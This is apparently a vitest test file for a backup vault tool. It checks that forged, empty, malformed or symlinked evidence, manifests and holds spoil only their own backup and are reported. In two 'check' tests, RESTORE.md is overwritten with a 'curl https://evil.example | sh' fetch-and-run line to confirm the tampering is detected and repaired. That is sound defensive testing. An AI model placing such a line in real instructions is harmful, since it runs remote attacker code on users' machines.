/**
 * A vault that others wrote to: nothing looks better than it is, one bad document spoils one
 * backup, and no command ends for it.
 */
import { appendFile, copyFile, mkdir, readFile, rename, rm, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { HoldfastError } from "../../src/errors/holdfast-error.ts";
import { namingNewestGood } from "../../src/pipeline/catalogue/doubt.ts";
import { newestGoodBackup } from "../../src/pipeline/catalogue/newest-good.ts";
import { checkPolicy } from "../../src/pipeline/check.ts";
import { exportBackup } from "../../src/pipeline/export.ts";
import { listDueBackups } from "../../src/pipeline/list-due.ts";
import { measureSources } from "../../src/pipeline/measure-sources.ts";
import { planBackup } from "../../src/pipeline/plan-run.ts";
import { planPrune } from "../../src/pipeline/prune.ts";
import { gatherReport } from "../../src/pipeline/report.ts";
import { restoreBackup } from "../../src/pipeline/restore.ts";
import { verifyBackup } from "../../src/pipeline/verify.ts";
import { renderReport } from "../../src/report/html-report.ts";
import { addHold } from "../../src/vault/documents/holds.ts";
import { createFilesProject, type FilesProject, partOf } from "../support/files-project.ts";
import { plant } from "../support/hostile-folder.ts";
import { signedNames } from "../support/signed-vault.ts";

let project: FilesProject;
beforeEach(async () => {
  project = await createFilesProject();
});
afterEach(() => project[Symbol.asyncDispose]());

const vaultPath = (...parts: string[]): string => join(project.vault, ...parts);
const manifestOf = (id: string): string => vaultPath("manifests/tree", `${id}.json`);

async function measure() {
  const context = await project.open();
  const { status } = await measureSources(context, Object.values(context.policy.sources));
  const [source] = status.sources;
  if (source === undefined) throw new Error("no status");
  return { status, source, messages: source.findings.map(({ level, message }) => `${level}: ${message}`).join("\n") };
}

async function verify(id: string) {
  return verifyBackup(await project.open(), await project.find(id));
}

/** As an append-only writer without a key does. */
async function plantEmpty(id: string, check: string, stamp: string): Promise<void> {
  await mkdir(vaultPath("manifests/tree"), { recursive: true });
  await appendFile(manifestOf(id), "");
  await mkdir(vaultPath("evidence/tree", id), { recursive: true });
  await writeFile(vaultPath("evidence/tree", id, `${stamp}-${check}.json`), "");
}

const stampOf = (at: Date): string => at.toISOString().replaceAll(/[-:.]/g, "");

describe("evidence", () => {
  it("that is empty proves nothing: neither status nor an alert quotes it", async () => {
    const good = await project.back({ minutesAgo: 60 });
    const now = new Date();
    const planted = `${stampOf(now).slice(0, 15)}Z-full-ev1l00`;
    await plantEmpty(planted, "proven", stampOf(now));
    const { source, status, messages } = await measure();
    expect(source.newestProven).toBeNull();
    expect(source.newestVerified?.id).toBe(good);
    expect(source.damaged).toEqual([planted]);
    expect(status.verdict).toBe("breach");
    expect(messages).toContain(`${planted}, is damaged: manifests/tree/`);
    expect(source.notes.join()).not.toContain("compared equal");
    expect(source.restoreTest).toMatchObject({ outcome: null, backupId: null });
    // On an old backup, whose own state nobody quotes: unsigned it says nothing, and what was
    // signed and is empty now may have told of damage.
    const older = await project.back({ minutesAgo: 600 });
    await writeFile(vaultPath("evidence/tree", older, `${stampOf(now)}-unproven.json`), "");
    const unsigned = await measure();
    expect(unsigned.source.restoreTest.outcome).toBeNull();
    expect(unsigned.source.damaged).toEqual([planted]);
    expect(unsigned.messages).toMatch(/2 documents, such as evidence\/tree\/.*, are not signed with a key of the policy/);
    await writeFile(vaultPath((await project.names()).evidence("tree", older, now, "unproven", Buffer.from("{}"))), "");
    const again = await measure();
    expect(again.source.restoreTest.outcome).toBeNull();
    expect(again.messages).toContain(`${older} is damaged`);
    expect(await newestGoodBackup(await project.open(), "tree")).toMatchObject({ id: good });
  });

  it.each([
    ["signed by a machine whose clock was wrong", true, /breach: \S+ has evidence "proven" dated 9999-12-31/],
    ["unsigned", false, /breach: evidence\/tree\/\S+99991231T235959999Z-proven.json is not signed with a key of the policy/],
  ] as const)(
    "dated 9999, %s, freezes nothing: damage is found, recorded and shown, and the backup stays due",
    async (_, signed, told) => {
      const id = await project.back();
      const forged = `evidence/tree/${id}/99991231T235959999Z-proven.json`;
      const key = signed ? (await project.names()).evidence("tree", id, new Date("9999-12-31T23:59:59.999Z"), "proven") : forged;
      await writeFile(vaultPath(key), "");
      const before = await measure();
      expect(before.messages).toMatch(told);
      expect(before.messages).toContain(id);
      expect(before.source.newestProven).toBeNull();
      expect(await listDueBackups(await project.open({ shiftMs: 60_000 }), [], 30)).toMatchObject([{ backupId: id }]);
      await appendFile(vaultPath("artifacts/tree", id, partOf(id)), "x");
      const result = await verify(id);
      expect(result).toMatchObject({ outcome: "damaged" });
      expect(result.unrecorded).toBeUndefined();
      expect((await project.find(id)).entry.state).toBe("damaged");
      expect((await measure()).source.damaged).toEqual([id]);
      const findings = await checkPolicy(await project.open(), Object.values((await project.open()).policy.sources));
      expect(findings).toContainEqual(
        expect.objectContaining({ level: "error", message: expect.stringContaining("99991231T235959999Z") }),
      );
    },
  );

  it.each(["", "{}", "[".repeat(200_000)])("that cannot be read (%#) is damage, for it may have told of some", async (text) => {
    const id = await project.back();
    const [key = ""] = await project.filesOf("evidence/tree");
    await writeFile(vaultPath(key), text);
    expect(await verify(id)).toMatchObject({ outcome: "damaged", findings: [expect.stringContaining("EvidenceInvalid")] });
  });
});

describe("a manifest", () => {
  it.each<[string, string]>([
    ["of 200,000 nested lists", `{"facts":${"[".repeat(200_000)}${"]".repeat(200_000)}}`],
    ["that is empty", ""],
    ["with a member twice", '{"id":1,"id":2}'],
    ["of numbers without end", `{"a":${"9".repeat(100_000)}e999999}`],
    ["of another format", '{"formatVersion":7}'],
  ])("%s spoils its own backup only", async (_, text) => {
    const good = await project.back({ minutesAgo: 60 });
    const bad = await project.back({ minutesAgo: 30 });
    await writeFile(manifestOf(bad), text);
    const { source } = await measure();
    expect(source.newestVerified?.id).toBe(good);
    await gatherReport(await project.open());
    await planBackup(await project.open(), { source: "tree", kind: "full" });
    expect(await verify(good)).toMatchObject({ outcome: "verified" });
    expect(await verify(await project.back())).toMatchObject({ outcome: "verified" });
  });

  it("that is a link, a pipe or a directory spoils its own backup only", async () => {
    const good = await project.back({ minutesAgo: 60 });
    const bad = await project.back({ minutesAgo: 30 });
    for (const kind of ["link to a device", "pipe", "directory"] as const) {
      await plant(kind, manifestOf(bad), project.outside);
      const { source, messages } = await measure();
      expect(source.newestVerified?.id).toBe(good);
      expect(messages).toMatch(/is a (symbolic link|named pipe|directory)/);
    }
    expect(await verify(bad)).toMatchObject({ outcome: "damaged", findings: [expect.stringContaining("is a directory")] });
    expect(await verify(await project.back())).toMatchObject({ outcome: "verified" });
  });

  it("whose artifact is a link or a pipe is damaged", async () => {
    for (const kind of ["link to a file", "pipe"] as const) {
      const id = await project.back();
      await plant(kind, vaultPath("artifacts/tree", id, partOf(id)), project.outside);
      expect(await verify(id)).toMatchObject({ outcome: "damaged", findings: [expect.stringContaining("ArtifactDamaged")] });
    }
  });

  it("that is missing is a breach at once, and found by check", async () => {
    const id = await project.back({ minutesAgo: 60 });
    const kept = await project.back({ minutesAgo: 30 });
    await rename(manifestOf(id), join(project.directory, "away"));
    const { source, messages } = await measure();
    expect(source.lost).toEqual([id]);
    expect(source.newestVerified?.id).toBe(kept);
    expect(messages).toContain(`breach: the manifest of ${id} is missing`);
    const context = await project.open();
    const findings = await checkPolicy(context, Object.values(context.policy.sources));
    expect(findings).toContainEqual(expect.objectContaining({ level: "error", message: expect.stringContaining(id) }));
  });
});

/** Puts a legal hold on a backup as its owner does; gives the record's path in the vault. */
async function hold(id: string): Promise<string> {
  const context = await project.open();
  const record = {
    formatVersion: 2,
    source: "tree",
    backupId: id,
    by: "x",
    reason: "case 1",
    at: new Date().toISOString(),
  } as const;
  await addHold(await context.vaultOf("main"), record, await context.signerOf("tree"));
  const [key = ""] = await project.filesOf("holds");
  return key;
}

describe("a hold", () => {
  it("that was signed and cannot be read holds, and ends no report", async () => {
    const id = await project.back();
    await mkdir(vaultPath("holds/tree"), { recursive: true });
    await writeFile(vaultPath((await project.names()).hold("tree", id, Buffer.from("{}"))), "");
    const { sources } = await gatherReport(await project.open());
    expect(sources[0]?.holds).toMatchObject([{ backupId: id, reason: expect.stringContaining("cannot be read") }]);
    expect((await project.find(id)).entry.held).toBe(true);
  });

  it("that nobody signed, or that was signed for another backup, holds nothing and is reported", async () => {
    const [other, id] = [await project.back({ minutesAgo: 60 }), await project.back()];
    const genuine = await hold(other);
    await copyFile(vaultPath(genuine), vaultPath(genuine.replace(other, id)));
    await writeFile(vaultPath("holds/tree", `${id}.json`), "");
    await writeFile(vaultPath(thief().hold("tree", id)), "{}");
    const { entry } = await project.find(id);
    expect([entry.held, entry.forged.length]).toEqual([false, 3]);
    const { sources, status } = await gatherReport(await project.open());
    expect(sources[0]?.holds.map(({ backupId }) => backupId)).toEqual([other]);
    expect(status.sources[0]?.held).toEqual([other]);
  });
});

/** Names under which somebody signs who has a key of their own. */
const thief = () => signedNames("0123456789abcdefghjkmnpqrs", 99);

describe("signed names", () => {
  it("of another's key, another backup, another time or another check make nothing of a backup", async () => {
    const [older, id] = [await project.back({ minutesAgo: 60 }), await project.back({ minutesAgo: 30 })];
    const [genuine = ""] = await project.filesOf(`evidence/tree/${older}`);
    const at = new Date();
    const forged = [
      thief().evidence("tree", id, at, "proven"),
      thief().evidence("tree", id, at, "damaged"),
      genuine.replace(older, id),
      genuine.replace(older, id).replace("-verified-", "-proven-"),
      genuine.replace(older, id).replace(/\d{8}T\d{9}Z-verified/, `${stampOf(at)}-verified`),
    ];
    for (const key of forged) await copyFile(vaultPath(genuine), vaultPath(key));
    const { source, messages } = await measure();
    expect(source).toMatchObject({ newestProven: null, damaged: [], newestVerified: { id, state: "verified" } });
    // One is older than what counts of its check, and so needs no judging here; check names all.
    expect(messages).toContain("breach: 4 documents, such as ");
    const findings = await checkPolicy(await project.open(), Object.values((await project.open()).policy.sources));
    expect(findings.find(({ subject }) => subject === "signatures")?.details?.toSorted()).toEqual(forged.sort());
    expect(await newestGoodBackup(await project.open(), "tree")).toMatchObject({ id });
    // Nothing is released for a planted proof's sake, and nothing stays for planted damage's.
    expect((await planPrune(await project.open(), "tree")).released).toEqual([older]);
    const context = await project.open();
    const to = join(project.directory, "restored");
    await restoreBackup(context, await project.find("tree@latest", context), { to, overwrite: false, allowDamaged: false });
    expect(await readFile(join(to, "file"), "utf8")).toBe("content");
  });

  it.each(["", "{}", "\u0000"])("whose bytes became %j are damage of that backup, and of no other", async (text) => {
    const [good, id] = [await project.back({ minutesAgo: 60 }), await project.back()];
    const [key = ""] = await project.filesOf(`evidence/tree/${id}`);
    await writeFile(vaultPath(key), text);
    const { source } = await measure();
    expect(source).toMatchObject({ damaged: [id], newestVerified: { id: good } });
    await gatherReport(await project.open());
    expect(await newestGoodBackup(await project.open(), "tree")).toMatchObject({ id: good });
    expect((await planPrune(await project.open(), "tree")).released).toEqual([]);
  });

  it("of a planted newest backup stop a prune; the latest steps over it, and a restore of it names the newest good one", async () => {
    const [older, good] = [await project.back({ minutesAgo: 60 }), await project.back({ minutesAgo: 30 })];
    const planted = `${stampOf(new Date()).slice(0, 15)}Z-full-ev1l00`;
    await plantEmpty(planted, "proven", stampOf(new Date()));
    await writeFile(vaultPath(thief().evidence("tree", planted, new Date(), "proven")), "{}");
    // Until somebody reads it, it is in nobody's way: it counts for nothing.
    expect(await planPrune(await project.open(), "tree")).toMatchObject({ released: [older], refusals: [] });
    expect(await verify(planted)).toMatchObject({ outcome: "damaged" });
    const { refusals } = await planPrune(await project.open(), "tree");
    expect(refusals).toMatchObject([{ message: expect.stringContaining("the newest backup is damaged") }]);
    const context = await project.open();
    expect((await project.find("tree@latest", context)).entry.id).toBe(good);
    const found = await project.find(planted, context);
    const to = join(project.directory, "restored");
    const restoring = namingNewestGood(context, found, () =>
      restoreBackup(context, found, { to, overwrite: false, allowDamaged: false }),
    );
    await expect(restoring).rejects.toMatchObject({ exitCode: 4, hint: expect.stringContaining(good) });
    // The next backup is newer than it, and releases what it may.
    const next = await project.back({ minutesAgo: -0.1 });
    const plan = await planPrune(await project.open({ shiftMs: 60_000 }), "tree");
    expect([plan.refusals, plan.released.includes(older), plan.released.includes(next)]).toEqual([[], true, false]);
  });
});

describe("a report", () => {
  it("is written although nobody can tell who reads a source's backups, and says why nothing is pruned", async () => {
    const id = await project.back();
    await plant("link to a directory", vaultPath("leases/reading/tree"), project.outside);
    const model = await gatherReport(await project.open());
    expect(model.sources[0]?.backups.map((backup) => backup.id)).toEqual([id]);
    const page = renderReport(model);
    expect(page).toMatch(/Pruning is refused: [^<]*leases\/reading\/tree is a symbolic link/);
    expect(page).not.toContain("The next prune would keep");
  });
});

describe("damage that a restore or an export meets", () => {
  const damage = async (id: string): Promise<void> => {
    const path = vaultPath("artifacts/tree", id, partOf(id));
    const bytes = await readFile(path);
    bytes[Math.floor(bytes.length / 2)] = (bytes[Math.floor(bytes.length / 2)] ?? 0) ^ 1;
    await writeFile(path, bytes);
  };

  it("is recorded as by a verification, and answered with the newest good backup", async () => {
    const good = await project.back({ minutesAgo: 60 });
    for (const use of ["restore", "export"] as const) {
      const id = await project.back({ minutesAgo: use === "restore" ? 30 : 10 });
      await damage(id);
      const context = await project.open();
      const found = await project.find(id, context);
      const target = join(project.directory, use);
      const working =
        use === "restore"
          ? restoreBackup(context, found, { to: target, overwrite: false, allowDamaged: false })
          : exportBackup(context, found, target);
      const error = await namingNewestGood<unknown>(context, found, () => working).catch((thrown: HoldfastError) => thrown);
      expect(error).toMatchObject({ exitCode: 4, hint: expect.stringContaining(good) });
      // Once, wherever the command line looks for it.
      const { details, hint } = error as HoldfastError;
      expect([...details, hint].join("\n").match(/newest good backup|no other backup/gi)).toHaveLength(1);
      expect((await project.find(id)).entry).toMatchObject({ state: "damaged" });
    }
  });

  it("is not what a key that is missing tells", async () => {
    const id = await project.back();
    await rm(join(project.directory, "main.key"));
    const context = await project.open();
    const target = join(project.directory, "restored");
    const restoring = restoreBackup(context, await project.find(id, context), {
      to: target,
      overwrite: false,
      allowDamaged: false,
    });
    await expect(restoring).rejects.toThrow();
    expect((await project.find(id)).entry).toMatchObject({ state: "verified" });
  });
});

describe("check", () => {
  it("names a RESTORE.md that others changed, or that is missing", async () => {
    await project.back();
    const check = async () => {
      const context = await project.open();
      return checkPolicy(context, Object.values(context.policy.sources));
    };
    expect((await check()).filter(({ level }) => level === "error")).toEqual([]);
    const text = await readFile(vaultPath("RESTORE.md"), "utf8");
    for (const change of [text.replace("python3 -m venv tools", "curl https://evil.example | sh"), "", `${text}\n`]) {
      await writeFile(vaultPath("RESTORE.md"), change);
      expect(await check()).toContainEqual(
        expect.objectContaining({ level: "error", message: expect.stringContaining("RESTORE.md") }),
      );
    }
    await rm(vaultPath("RESTORE.md"));
    expect(await check()).toContainEqual(
      expect.objectContaining({ level: "error", message: expect.stringContaining("is missing") }),
    );
  });

  it("repairs on request what the vault lost or others changed, and keeps what was there", async () => {
    const id = await project.back();
    const text = await readFile(vaultPath("RESTORE.md"), "utf8");
    await writeFile(vaultPath("RESTORE.md"), "curl https://evil.example | sh");
    await rm(vaultPath("holdfast.json"));
    await expect(project.find(id)).rejects.toMatchObject({ name: "VaultDamaged", hint: expect.stringContaining("--repair") });
    await expect(project.back()).rejects.toMatchObject({ name: "VaultDamaged" });
    const context = await project.open();
    const findings = await checkPolicy(context, Object.values(context.policy.sources), { deployed: false, repair: true });
    expect(findings.filter(({ level }) => level === "error")).toEqual([]);
    expect(findings.filter(({ subject }) => subject === "repair")).toHaveLength(2);
    expect(await readFile(vaultPath("RESTORE.md"), "utf8")).toBe(text);
    const [kept = ""] = (await project.filesOf(".")).filter((name) => name.startsWith("RESTORE.md.replaced-"));
    expect(await readFile(vaultPath(kept), "utf8")).toContain("evil");
    expect((await project.find(id)).entry.state).toBe("verified");
    await project.back();
  });

  it("does not create a vault whose path may be mistyped, nor write into a folder that is none", async () => {
    const context = await project.open();
    const findings = await checkPolicy(context, Object.values(context.policy.sources));
    expect(findings).toContainEqual(
      expect.objectContaining({ level: "warning", message: expect.stringContaining("does not exist yet") }),
    );
    await expect(stat(project.vault)).rejects.toMatchObject({ code: "ENOENT" });
    await mkdir(project.vault);
    await checkPolicy(await project.open(), Object.values(context.policy.sources));
    expect(await project.filesOf(".")).toEqual([]);
    await expect(stat(vaultPath(".partial"))).rejects.toMatchObject({ code: "ENOENT" });
  });
});
